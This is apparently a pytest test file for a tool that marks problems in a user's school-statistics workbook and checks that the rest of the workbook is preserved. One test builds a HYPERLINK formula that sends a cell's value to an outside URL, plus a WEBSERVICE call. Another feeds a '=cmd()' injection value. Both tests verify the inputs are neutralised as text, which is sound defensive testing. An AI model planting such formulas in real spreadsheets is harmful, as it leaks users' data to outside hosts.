"""The marked copy is the user's own workbook, with what is wrong shown in it."""

import io

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula

from edu_duty.sealed import run_sealed
from schools.marking import FILLS, main, request
from tests.schools.packages import saved

TOLD = {"sheet": "问题", "headings": ["级别", "工作表", "单元格", "数据项", "读到", "说明"]}


def problem(**parts):
    known = {"severity": "error", "word": "错误", "sheet": "学段", "cell": "B3"}
    return known | {"name": "在校生数", "found": "约10", "message": "应为整数"} | parts


def users_workbook():
    book = Workbook()
    sheet = book.worksheets[0]
    sheet.title = "学段"
    sheet["A1"], sheet["B3"], sheet["C3"] = "标题", "约10", "=1+1"
    sheet["B3"].comment = Comment("自己的批注", "示例")
    sheet.merge_cells("A1:C1")
    rule = DataValidation(type="whole", formula1="0", operator="greaterThan")
    rule.add("B2:B9")
    sheet.add_data_validation(rule)
    return saved(book)


def marked(*problems):
    return load_workbook(io.BytesIO(main(request(TOLD | {"problems": problems}, users_workbook()))))


def test_a_bad_cell_is_coloured_and_says_why():
    cell = marked(problem())["学段"]["B3"]

    assert cell.fill.fgColor.rgb.endswith(FILLS["error"])
    assert cell.comment.text == "错误：应为整数\n自己的批注"
    assert cell.value == "约10"


def test_the_rest_of_the_workbook_stays():
    sheet = marked(problem())["学段"]

    assert sheet["C3"].value == "=1+1"
    assert str(sheet.data_validations.dataValidation[0].sqref) == "B2:B9"
    assert sheet["C3"].comment is None


def test_a_formula_that_reaches_out_of_the_workbook_comes_back_as_text():
    book = load_workbook(io.BytesIO(users_workbook()))
    sheet = book["学段"]
    sheet["C4"] = '=HYPERLINK("https://example.org/?"&B3,"点")'
    sheet["C5"] = ArrayFormula("C5:C6", '=WEBSERVICE("https://example.org/")')
    told = request(TOLD | {"problems": [problem()]}, saved(book))

    copy = load_workbook(io.BytesIO(main(told)))["学段"]

    assert (copy["C4"].data_type, copy["C5"].data_type) == ("s", "s")
    assert copy["C4"].value.startswith("'=HYPERLINK(")
    assert copy["C5"].value.startswith("'=WEBSERVICE(")
    assert copy["C3"].value == "=1+1"


def test_an_error_and_a_warning_in_one_cell_show_as_an_error():
    cell = marked(problem(severity="warning", word="提示", message="核对"), problem())["学段"]["B3"]

    assert cell.fill.fgColor.rgb.endswith(FILLS["error"])
    assert cell.comment.text.startswith("提示：核对\n错误：应为整数")


def test_a_problem_inside_merged_cells_is_shown_where_they_begin():
    assert marked(problem(cell="C1"))["学段"]["A1"].comment.text == "错误：应为整数"


def test_the_list_in_front_leads_to_every_cell():
    book = marked(problem(found="=cmd()"), problem(cell="", sheet="", name=""))

    assert book.sheetnames == ["问题", "学段"]
    first, second = list(book["问题"].iter_rows(min_row=2))
    assert [cell.value for cell in first][:5] == ["错误", "学段", "B3", "在校生数", "'=cmd()"]
    assert first[2].hyperlink.location == "'学段'!B3" or first[2].hyperlink.target == "#'学段'!B3"
    assert second[2].hyperlink is None


def test_the_copy_is_made_in_a_sealed_process():
    content = request(TOLD | {"problems": [problem()]}, users_workbook())

    answer = run_sealed("schools.marking", content, seconds=20, memory_mb=1024)

    assert load_workbook(io.BytesIO(answer)).sheetnames == ["问题", "学段"]


@pytest.mark.parametrize("sheet", ["没有这张表", "问题"])
def test_a_problem_of_a_sheet_that_is_not_there_is_only_listed(sheet):
    book = marked(problem(sheet=sheet))

    assert book["问题"]["B2"].value == sheet
    assert book["学段"]["B3"].comment.text == "自己的批注"
